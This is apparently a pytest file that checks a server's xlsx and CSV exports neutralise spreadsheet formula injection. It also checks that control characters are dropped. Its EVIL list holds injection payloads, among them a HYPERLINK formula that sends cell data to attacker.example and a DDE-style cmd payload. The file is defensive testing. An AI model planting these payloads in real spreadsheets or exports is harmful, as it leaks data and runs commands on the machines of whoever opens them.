"""Exports are formula-safe: a name or title that a spreadsheet would read as a formula is written as
text, read back both by openpyxl and by the sheet XML itself (no <f> element anywhere)."""
import csv
import io
import re
import zipfile

from openpyxl import load_workbook

from server.common.sheets import Sheet, csv_bytes, xlsx_bytes

EVIL = ['=HYPERLINK("http://attacker.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
        "\t=1", "\r=1"]


def test_xlsx_cells_that_look_like_formulas_stay_text():
    data = xlsx_bytes([Sheet("名单", ["=标题", "数"], [[v, 7] for v in EVIL] + [["张三", -5]])])
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    ws = load_workbook(io.BytesIO(data)).active
    values = [(c.value, c.data_type) for c in ws["A"]]
    assert values[0] == ("=标题", "s")
    assert [v for v, _ in values[1:-1]] == [v.replace("\r", "\n") for v in EVIL]  # XML reads CR as LF
    assert all(t == "s" for _, t in values)
    assert ws["B2"].value == 7 and ws["B2"].data_type == "n"
    assert ws["B8"].value == -5 and ws["B8"].data_type == "n"  # numbers stay numbers, negative ones too


def test_csv_values_that_look_like_formulas_start_with_a_quote():
    body = csv_bytes(["姓名", "分"], [[v, 3] for v in EVIL] + [["张三", -5], [None, 1.5]]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0] == ["姓名", "分"]
    for row, value in zip(rows[1:], EVIL, strict=False):
        assert row[0] == "'" + value
        assert not re.match(r"^[=+\-@\t\r]", row[0])
    assert rows[-2] == ["张三", "-5"] and rows[-1] == ["", "1.5"]


def test_xlsx_leaves_out_control_characters_instead_of_failing():
    """XML cannot hold most C0 control characters; a stored name with one still exports (without it)."""
    data = xlsx_bytes([Sheet("名单", ["姓名\x07", "备注"], [["张\x00三\x1f", "第一行\n第二行\t完"], [None, 3]])])
    ws = load_workbook(io.BytesIO(data)).active
    assert [c.value for c in ws[1]] == ["姓名", "备注"]
    assert [c.value for c in ws[2]] == ["张三", "第一行\n第二行\t完"]  # tab and line break are kept
    assert [c.value for c in ws[3]] == [None, 3]
